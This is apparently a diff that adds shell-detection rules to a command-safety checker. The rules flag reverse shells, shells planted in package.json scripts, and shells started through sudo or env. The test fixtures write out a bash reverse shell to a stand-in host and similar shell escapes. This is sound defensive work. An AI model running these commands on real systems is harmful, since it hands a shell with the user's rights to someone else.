@@ -1,0 +1,73 @@
+"""Shells that a line hands to somebody, or starts where none is expected."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+
+from chimera_guard.context import Context
+from chimera_guard.effects.model import Effect
+from chimera_guard.risk import SecurityRisk
+from chimera_guard.rules.registry import line_rule
+
+HIGH = SecurityRisk.HIGH
+AWAY = frozenset({"connect", "remote-change", "remote-read"})  # what is started then runs elsewhere
+READS_SETTINGS = frozenset(
+    {"exec-script", "exec-program", "install", "service", "mount", "persist", "connect", "remote-read", "remote-change"}
+)
+
+
+@line_rule(
+    "shell-handed-over",
+    HIGH,
+    reason="starts a shell, and connects it with another machine",
+    why="Somebody else then types the commands, with your rights.",
+    instead="use ssh, which asks who is there",
+    match=[("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw")],
+    not_match=["bash -i", "ssh x.example"],
+)
+def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
+    shell = next((e for e in effects if e.kind == "exec-code" and "interactive" in e.flags), None)
+    if shell is None:
+        return None
+    raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
+    return shell if raw or any(e.kind == "listen" for e in effects) else None
+
+
+@line_rule(
+    "shell-planted",
+    HIGH,
+    reason="writes {target}, which starts a shell, and then runs a program that may read it",
+    why="A file of settings, or of steps, then hands out a shell with the rights of whatever reads it.",
+    instead="start the shell itself, if you need one",
+    match=[
+        ("""echo '{"scripts":{"x":"/bin/sh"}}' > package.json; npm run x""", "writes-file", "runs-script"),
+    ],
+    not_match=[
+        "printf '#!/bin/sh\\nls\\n' > run.sh; ./run.sh",
+        "echo 'ExecStart=/bin/sh -c ls' > x.service; make",
+        "echo SHELL=/bin/bash > .env.example",
+    ],
+)
+def shell_planted(effects: Sequence[Effect], context: Context) -> Effect | None:
+    for place, effect in enumerate(effects):
+        if "starts-shell" in effect.flags:
+            return effect if any(later.kind in READS_SETTINGS for later in effects[place:]) else None
+    return None
+
+
+@line_rule(
+    "shell-through-program",
+    HIGH,
+    reason="starts {program} through another program, to take whatever is typed or piped into it",
+    why="What is typed there runs with that program's rights, and past every check of single commands.",
+    instead="run the one command that is needed",
+    match=[("sudo sh", "privilege-root"), "env /bin/sh"],
+    not_match=["sh", "docker exec -it web sh", "ssh x.example bash", "sudo ls"],
+)
+def shell_through_program(effects: Sequence[Effect], context: Context) -> Effect | None:
+    for effect in effects:
+        if effect.kind != "exec-code" or not effect.via or "interactive" not in effect.flags:
+            continue
+        if "escape" not in effect.flags and not any(e.kind in AWAY and e.program in effect.via for e in effects):
+            return effect
+    return None
